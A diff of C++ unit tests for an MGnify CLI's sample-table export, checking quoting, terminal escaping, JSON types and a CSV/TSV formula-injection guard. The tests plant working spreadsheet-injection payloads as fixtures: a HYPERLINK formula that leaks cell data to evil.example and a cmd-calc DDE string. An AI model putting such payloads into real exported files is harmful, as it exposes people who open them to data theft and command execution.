@@ -401,26 +401,115 @@ TEST_CASE("samples-table: a walk that ends short of the study's count fails and 
   CHECK_THAT(run.err, Catch::StartsWith("mgnify: "));
 }
 
-TEST_CASE("samples-table TSV escapes a cell once, so tsv_unescape gives the value back",
+TEST_CASE("samples-table TSV and CSV carry a cell as it is, quoted; escaped only on a terminal",
           "[cli][tables][samples]") {
   const auto& d = v2data::dataset();
   const auto& study = d.studies[2];
   json sample = d.samples[static_cast<std::size_t>(study.samples[0])].with_metadata;
-  const std::string value = "4\t5 \\ \x1b[2J end";
+  const std::string value = "4\t5 \\ \"x\" \x1b[2J end";
   sample["metadata"]["temperature"] = value;
   const json page = {{"count", 1}, {"items", json::array({sample})}};
-  tables_mock().push_fault(
-      std::string(mgnify::mock::kV2Prefix) + "/studies/" + study.accession + "/samples/",
-      mgnify::mock::Fault::status_only(200, page.dump()));
-  const auto run = run_tables_cli({"samples-table", study.accession, "--format", "tsv"});
+  const std::string path =
+      std::string(mgnify::mock::kV2Prefix) + "/studies/" + study.accession + "/samples/";
+  // In a file (here a pipe) the bytes are the value's own, quoted as pandas writes them.
+  const std::string quoted = "\"4\t5 \\ \"\"x\"\" \x1b[2J end\"";
+  tables_mock().push_fault(path, mgnify::mock::Fault::status_only(200, page.dump()));
+  const auto tsv = run_tables_cli({"samples-table", study.accession, "--format", "tsv"});
+  REQUIRE(tsv.code == 0);
+  CHECK(tsv.out.find("\t" + quoted) != std::string::npos);
+  tables_mock().push_fault(path, mgnify::mock::Fault::status_only(200, page.dump()));
+  const auto csv = run_tables_cli({"samples-table", study.accession, "--format", "csv"});
+  REQUIRE(csv.code == 0);
+  CHECK(csv.out.find("," + quoted) != std::string::npos);
+
+  // On a terminal no control character arrives; the escapes show where they were.
+  tables_mock().push_fault(path, mgnify::mock::Fault::status_only(200, page.dump()));
+  const auto shown = cli_test::run_in_terminal(
+      MGNIFY_CLI_PATH,
+      {"--rate-limit", "0", "--retries", "1", "samples-table", study.accession, "--format", "tsv"},
+      {"MGNIFY_API_V2_URL=" + tables_mock().v2_url()});
+  REQUIRE(shown.code == 0);
+  CHECK(shown.err.find('\x1b') == std::string::npos);
+  CHECK(shown.err.find("4\\t5 \\ \"\"x\"\" \\x1b[2J end") != std::string::npos);
+}
+
+TEST_CASE("samples-table JSON keeps the service's types: numbers, booleans, objects",
+          "[cli][tables][samples]") {
+  const auto& d = v2data::dataset();
+  const auto& study = d.studies[2];
+  json sample = d.samples[static_cast<std::size_t>(study.samples[0])].with_metadata;
+  sample["metadata"]["lat"] = 0;
+  sample["metadata"]["ph"] = 7;
+  sample["metadata"]["flag"] = true;
+  sample["metadata"]["nested"] = {{"a", 1}, {"b", "x"}};
+  sample["metadata"]["note"] = "7";
+  const json page = {{"count", 1}, {"items", json::array({sample})}};
+  const std::string path =
+      std::string(mgnify::mock::kV2Prefix) + "/studies/" + study.accession + "/samples/";
+  tables_mock().push_fault(path, mgnify::mock::Fault::status_only(200, page.dump()));
+  const auto run = run_tables_cli({"samples-table", study.accession, "--format", "json"});
   REQUIRE(run.code == 0);
-  const auto rows = tsv_rows(run.out);
+  const json rows = json::parse(run.out);
+  REQUIRE(rows.size() == 1);
+  CHECK(rows[0].at("lat") == 0);
+  CHECK(rows[0].at("ph") == 7);
+  CHECK(rows[0].at("flag") == true);
+  CHECK(rows[0].at("nested") == json{{"a", 1}, {"b", "x"}});
+  CHECK(rows[0].at("note") == "7");
+  CHECK(rows[0].at("accession") == sample.at("accession"));
+
+  // The same values in TSV: numbers and booleans as JSON writes them, objects as compact JSON.
+  tables_mock().push_fault(path, mgnify::mock::Fault::status_only(200, page.dump()));
+  const auto tsv = run_tables_cli({"samples-table", study.accession, "--format", "tsv"});
+  REQUIRE(tsv.code == 0);
+  const auto lines = tsv_rows(tsv.out);
+  REQUIRE(lines.size() == 2);
+  CHECK(lines[1].at(index_of(lines[0], "ph")) == "7");
+  CHECK(lines[1].at(index_of(lines[0], "flag")) == "true");
+  CHECK(lines[1].at(index_of(lines[0], "nested")) == R"("{""a"":1,""b"":""x""}")");
+}
+
+/// The study's first sample with a hostile title and metadata value, served as its only sample.
+void serve_formula_sample(const std::string& study_accession, json sample) {
+  sample["sample_title"] = R"(=HYPERLINK("http://evil.example/?leak="&A2,"Click"))";
+  sample["metadata"]["temperature"] = "@SUM(1+1)*cmd|' /C calc'!A0";
+  sample["metadata"]["depth"] = "-12.5";
+  const json page = {{"count", 1}, {"items", json::array({sample})}};
+  tables_mock().push_fault(
+      std::string(mgnify::mock::kV2Prefix) + "/studies/" + study_accession + "/samples/",
+      mgnify::mock::Fault::status_only(200, page.dump()));
+}
+
+TEST_CASE("samples-table neutralises formulas in CSV and TSV unless --no-formula-guard",
+          "[cli][tables][samples][formula]") {
+  const auto& d = v2data::dataset();
+  const auto& study = d.studies[2];
+  const json sample = d.samples[static_cast<std::size_t>(study.samples[0])].with_metadata;
+
+  serve_formula_sample(study.accession, sample);
+  const auto csv = run_tables_cli({"samples-table", study.accession, "--format", "csv"});
+  REQUIRE(csv.code == 0);
+  CHECK(csv.out.find(R"x("'=HYPERLINK(""http://evil.example/?leak=""&A2,""Click"")")x") !=
+        std::string::npos);
+  CHECK(csv.out.find(",'@SUM(1+1)*cmd|' /C calc'!A0") != std::string::npos);
+  CHECK(csv.out.find(",-12.5") != std::string::npos);
+  CHECK(csv.out.find(",'-12.5") == std::string::npos);
+
+  serve_formula_sample(study.accession, sample);
+  const auto tsv = run_tables_cli({"samples-table", study.accession, "--format", "tsv"});
+  REQUIRE(tsv.code == 0);
+  const auto rows = tsv_rows(tsv.out);
   REQUIRE(rows.size() == 2);
-  const auto column = std::find(rows[0].begin(), rows[0].end(), "temperature") - rows[0].begin();
-  REQUIRE(static_cast<std::size_t>(column) < rows[1].size());
-  const std::string& cell = rows[1][static_cast<std::size_t>(column)];
-  CHECK(cell == "4\\t5 \\\\ \\x1b[2J end");
-  CHECK(mgnify::tables::tsv_unescape(cell) == value);
+  CHECK(rows[1].at(index_of(rows[0], "temperature")) == "'@SUM(1+1)*cmd|' /C calc'!A0");
+  CHECK(rows[1].at(index_of(rows[0], "depth")) == "-12.5");
+
+  serve_formula_sample(study.accession, sample);
+  const auto off =
+      run_tables_cli({"--no-formula-guard", "samples-table", study.accession, "--format", "tsv"});
+  REQUIRE(off.code == 0);
+  const auto raw = tsv_rows(off.out);
+  REQUIRE(raw.size() == 2);
+  CHECK(raw[1].at(index_of(raw[0], "temperature")) == "@SUM(1+1)*cmd|' /C calc'!A0");
 }
 
 TEST_CASE("the table commands refuse options that would be dropped", "[cli][tables]") {
